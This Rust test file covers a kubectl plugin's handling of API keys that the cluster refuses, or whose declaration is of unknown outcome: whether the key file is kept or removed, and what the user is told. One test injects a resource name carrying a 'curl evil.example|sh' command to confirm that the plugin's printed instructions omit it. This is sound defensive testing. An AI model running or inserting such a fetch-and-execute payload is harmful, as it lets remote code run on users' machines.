//! What becomes of a new key that the cluster refuses, and of one of which nobody knows whether it was taken.

use std::fs;
use std::path::Path;
use std::process::Output;

use serde_json::{Value, json};

use crate::played::{Play, program};
use crate::stage::{Stage, failure};

const FORBIDDEN: &str =
    "Error from server (Forbidden): apikeys.keyplane.dev \"ci\" is forbidden: User \"me\" cannot do it\n";
const NO_API_SERVER: &str = "E1121 20:51:15 memcache.go:265] \"Unhandled Error\"\n\
                             The connection to the server 127.0.0.1:1 was refused - did you specify the right host or port?\n";
const LOST: &str = "unexpected EOF\n";
/// What a program that logs in says, and then kubectl.
const LOST_AFTER_ANOTHERS_REFUSAL: &str = "Error from server (Forbidden): secrets \"vault\" is forbidden\nUnable to connect to the server: unexpected EOF\n";
const GENERATE: [&str; 5] = ["generate", "--name", "ci", "--scope", "all"];
const ROTATE: [&str; 3] = ["apikeys", "rotate", "ci"];

/// The key that is rotated.
fn ci() -> Value {
    json!({"metadata": {"name": "ci", "uid": "u", "resourceVersion": "1"}, "spec": {"digest": "sha256:0"}})
}

/// kubectl that gets the key, or none, and fails with these words at everything else.
fn kubectl(stage: &Stage, key: Option<&Value>, says: &str) {
    let found = key.map(Value::to_string).unwrap_or_default();
    let (missing, code) = key.map_or(("Error from server (NotFound): not found\n", 1), |_| ("", 0));
    let get = Play { first: Some("get"), prints: &found, says: missing, code, ..Play::default() };
    program(stage.home.path(), "kubectl", &[get, Play { says, code: 1, ..Play::default() }]);
}

fn run(stage: &Stage, args: &[&[&str]]) -> Output {
    stage.plugin().env("PATH", stage.home.path()).args(args.concat()).output().unwrap()
}

fn holds_a_key(file: &Path) -> bool {
    fs::read_to_string(file).is_ok_and(|text| text.starts_with("kpk_"))
}

#[test]
fn of_a_key_that_was_refused_the_file_is_gone_and_that_is_told() {
    for (command, key, says) in [
        (&[GENERATE.as_slice(), &["--apply"]].concat(), None, FORBIDDEN),
        (&[GENERATE.as_slice(), &["--apply"]].concat(), None, NO_API_SERVER),
        (&ROTATE.to_vec(), Some(ci()), FORBIDDEN),
    ] {
        let stage = Stage::new();
        kubectl(&stage, key.as_ref(), says);
        for _ in 0..2 {
            let line = failure(&run(&stage, &[command, &["--key-out", "new.key"]]), 14);
            assert!(line.contains("was not declared, and its file new.key is removed"), "{line}");
            assert!(!stage.path("new.key").exists());
        }
    }
}

#[test]
fn of_a_key_that_was_shown_and_refused_it_is_told_that_it_is_worth_nothing() {
    for (command, key) in
        [(&[GENERATE.as_slice(), &["--apply"]].concat(), None), (&ROTATE.to_vec(), Some(ci()))]
    {
        let stage = Stage::new();
        kubectl(&stage, key.as_ref(), FORBIDDEN);
        let output = run(&stage, &[command]);
        assert_eq!(output.status.code(), Some(14));
        let said = String::from_utf8(output.stderr).unwrap();
        let last = said.lines().last().unwrap();
        assert!(
            last.contains("the new key above was not declared and is of no use: throw it away"),
            "{said}"
        );
        assert!(last.contains("ask an owner of the account"), "{said}");
    }
}

#[test]
fn a_key_that_may_be_declared_is_kept_and_it_is_told_how_to_find_out() {
    for (command, key, says) in [
        (&[GENERATE.as_slice(), &["--apply"]].concat(), None, LOST),
        (&ROTATE.to_vec(), Some(ci()), LOST),
        (&ROTATE.to_vec(), Some(ci()), LOST_AFTER_ANOTHERS_REFUSAL),
        // kubectl repeats a request that was answered with a fault.
        (&ROTATE.to_vec(), Some(ci()), NO_API_SERVER),
    ] {
        let stage = Stage::new();
        kubectl(&stage, key.as_ref(), says);
        let line = failure(&run(&stage, &[command, &["--key-out", "new.key"]]), 14);
        assert!(
            line.contains("it is not known whether the new key in new.key was declared: keep it"),
            "{line}"
        );
        assert!(line.contains("kubectl get apikey ci,") && line.contains("prefix kpk_"), "{line}");
        assert!(holds_a_key(&stage.path("new.key")));
    }
}

/// A kubectl that remembers what it did. Another process makes it, as for every program of a test.
#[cfg(unix)]
fn scripted_kubectl(stage: &Stage, script: &str) {
    let made = std::process::Command::new("/bin/sh")
        .args(["-c", "printf %s \"$1\" > kubectl && chmod 755 kubectl", "sh", script])
        .current_dir(stage.home.path())
        .status();
    assert!(made.unwrap().success());
}

/// The answer is lost, and somebody rotates the key once more: this one may count for a grace period.
#[cfg(unix)]
#[test]
fn a_key_that_another_rotation_has_followed_is_kept() {
    let stage = Stage::new();
    scripted_kubectl(
        &stage,
        r#"#!/bin/sh
object() { printf '{"metadata":{"name":"ci","uid":"u"},"spec":{"digest":"%s"}}' "$1"; }
case $1 in
get) if [ -e patched ]; then object sha256:2; else object sha256:0; fi ;;
patch) : > patched; echo 'unexpected EOF' >&2; exit 1 ;;
esac
"#,
    );
    let line = failure(&run(&stage, &[&ROTATE, &["--key-out", "new.key"]]), 14);
    assert!(line.contains("it is not known whether the new key in new.key was declared: keep it"), "{line}");
    assert!(holds_a_key(&stage.path("new.key")));
}

/// kubectl that loses the answer to a change which was made.
#[cfg(unix)]
#[test]
fn a_key_whose_declaration_was_answered_and_the_answer_lost_is_in_use() {
    let script = r#"#!/bin/sh
digest() { /bin/sed -n 's/.*"digest":"\([^"]*\)".*/\1/p' "$1"; }
object() { printf '{"metadata":{"name":"ci","uid":"u"},"spec":{"digest":"%s"}}' "$1"; }
case $1 in
get) if [ -e made ]; then object "$(digest made)"; elif [ -e first ]; then object sha256:0; else exit 1; fi ;;
create) /bin/cat > made; echo 'unexpected EOF' >&2; exit 1 ;;
patch) printf '%s' "$*" > made; echo 'Error from server (Conflict): the object has been modified' >&2; exit 1 ;;
esac
"#;
    for (command, is_there) in
        [(&[GENERATE.as_slice(), &["--apply"]].concat(), false), (&ROTATE.to_vec(), true)]
    {
        let stage = Stage::new();
        if is_there {
            stage.file("first", "", 0o600);
        }
        scripted_kubectl(&stage, script);
        let output = run(&stage, &[command, &["--no-wait", "--key-out", "new.key"]]);
        assert!(output.status.success(), "{output:?}");
        assert!(holds_a_key(&stage.path("new.key")));
    }
}

#[test]
fn what_is_told_to_be_typed_holds_no_name_of_the_api_servers() {
    let stage = Stage::new();
    let evil = json!({"metadata": {"name": "ci; curl evil.example|sh", "namespace": "acme", "uid": "u"}});
    program(stage.home.path(), "kubectl", &[Play { prints: &evil.to_string(), ..Play::default() }]);
    let output = run(&stage, &[&GENERATE, &["--apply", "--no-wait", "--key-out", "new.key"]]);
    let told = String::from_utf8(output.stdout).unwrap();
    assert!(told.contains("kubectl get apikey ci -n acme --watch") && !told.contains("curl"), "{told}");
    let output = run(&stage, &[&GENERATE, &["--apply", "--timeout", "1s", "--key-out", "other.key"]]);
    let told = String::from_utf8(output.stderr).unwrap();
    assert!(told.contains("kubectl delete apikey ci -n acme") && !told.contains("curl"), "{told}");
}
